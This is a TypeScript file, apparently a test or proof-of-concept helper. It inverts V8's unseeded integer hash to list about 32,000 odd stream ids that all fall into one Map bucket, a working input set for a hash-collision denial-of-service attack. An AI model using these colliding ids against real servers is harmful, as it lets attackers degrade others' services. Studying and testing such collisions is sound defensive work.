// Stream ids that V8 puts into one bucket of a Map: an attacker computes them beforehand. V8 hashes an integer by steps
// that can all be undone (`ComputeUnseededHash` in its sources). So no search is needed: each hash that ends in the
// wanted bits has exactly one integer.

/** Number of bits of the bucket index. A Map with up to two entries per bucket puts all these ids into one bucket. */
const BUCKET_BITS = 15;

/** The bucket. Any bucket works. */
const BUCKET = 5;

/** The inverse of `factor` for multiplication modulo 2³². `factor` must be odd. */
function inverseOf(factor: number): number {
  // Newton's iteration: each step doubles the number of correct bits. For an odd number the first three bits are
  // correct at the start.
  let inverse = factor;
  for (let bits = 3; bits < 32; bits *= 2) {
    inverse = Math.imul(inverse, 2 - Math.imul(factor, inverse));
  }
  return inverse;
}

const UNDO_2057 = inverseOf(2057);
const UNDO_5 = inverseOf(5);
const UNDO_32767 = inverseOf(32767);

/** V8's hash of a small integer, before its two highest bits are dropped. */
export function hashOf(key: number): number {
  let hash = (~key + (key << 15)) | 0;
  hash ^= hash >>> 12;
  hash = (hash + (hash << 2)) | 0;
  hash ^= hash >>> 4;
  hash = Math.imul(hash, 2057);
  return (hash ^ (hash >>> 16)) >>> 0;
}

function keyOf(hash: number): number {
  let key = Math.imul(hash ^ (hash >>> 16), UNDO_2057);
  key = Math.imul(unshift(key, 4), UNDO_5);
  return Math.imul(unshift(key, 12) + 1, UNDO_32767) >>> 0;
}

/** Undoes `x ^= x >>> bits`. */
function unshift(value: number, bits: number): number {
  let found = value;
  for (let right = bits; right < 32; right += bits) found = value ^ (found >>> bits);
  return found;
}

/** All odd ids below 2³¹ and above 2 that fall into one bucket, in rising order: some 32 000. */
export function collidingIds(): number[] {
  const ids: number[] = [];
  for (let high = 0; high < 2 ** (32 - BUCKET_BITS); high++) {
    const id = keyOf(high * 2 ** BUCKET_BITS + BUCKET);
    if (id % 2 === 1 && id > 2 && id < 2 ** 31) ids.push(id);
  }
  return ids.sort((a, b) => a - b);
}
